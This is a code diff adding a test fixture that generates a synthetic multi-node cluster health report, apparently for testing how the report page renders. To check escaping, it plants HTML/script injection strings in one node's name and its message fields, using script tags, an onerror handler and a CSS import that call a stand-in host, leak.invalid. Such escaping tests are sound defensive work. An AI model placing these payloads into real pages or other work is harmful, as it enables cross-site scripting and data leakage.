@@ -36,3 +36,40 @@ export function sampleReport() {
     profile,
   });
 }
+
+/**
+ * A site report of `count` nodes: every check of every checklist item on every
+ * node, statuses varied by a fixed rule, plus hostile text in one node's name
+ * and messages (report content comes from nodes).
+ */
+export function fleetReport(count: number, lang: 'en' | 'ko' = 'en') {
+  const statuses = ['pass', 'pass', 'pass', 'warn', 'pass', 'fail', 'pass', 'skip', 'pass', 'error'] as const;
+  const nodes = Array.from({ length: count }, (_, i) => ({
+    name: i === 1 ? HOSTILE_NODE : `node-${String(i + 1).padStart(2, '0')}`,
+    address: `192.0.2.${i + 10}`,
+    roles: i === 0 ? ['control-plane'] : i % 3 === 0 ? ['worker', 'gpu-worker'] : ['worker'],
+  }));
+  const out: CheckResult[] = [];
+  let k = 0;
+  for (const n of nodes) {
+    for (const item of profile.checklist) {
+      for (const id of item.checks) {
+        // The same sysctl finding on every node: it must group into one finding.
+        const status = id === 'kernel.sysctl' ? 'fail' : statuses[(k++ * 7 + n.name.length) % statuses.length]!;
+        const hostile = n.name === HOSTILE_NODE && id === 'os.release';
+        out.push({
+          id, node: n.name, checklist: item.id, category: item.category, status,
+          message: id === 'kernel.sysctl' ? 'net.ipv4.ip_forward = 0 (expected 1)' : hostile ? HOSTILE_TEXT : `${id} on ${n.name}: ${status}`,
+          facts: hostile ? { banner: HOSTILE_TEXT } : {},
+          remediation: status === 'pass' ? undefined : id === 'kernel.sysctl' ? 'sysctl -w net.ipv4.ip_forward=1\necho net.ipv4.ip_forward=1 > /etc/sysctl.d/99-k8s.conf' : hostile ? HOSTILE_TEXT : `fix ${id}`,
+          durationMs: 2,
+        });
+      }
+    }
+  }
+  return buildReport({ results: out, siteName: 'acme-lab', host: 'jump-1', profileName: 'checks/default.yaml (built in)', lang, nodes, startedAt: new Date('2026-11-23T07:00:00.000Z'), durationMs: 8000, profile });
+}
+
+/** Markup and URLs that would make a request or run a script if they reached the page unescaped. */
+export const HOSTILE_TEXT = `</td></tr></table><script>fetch("http://leak.invalid/script")</script><img src="http://leak.invalid/img" onerror="alert(1)"><style>@import url(http://leak.invalid/css);</style>' " & <`;
+export const HOSTILE_NODE = `gpu-"><img src=http://leak.invalid/node>`;
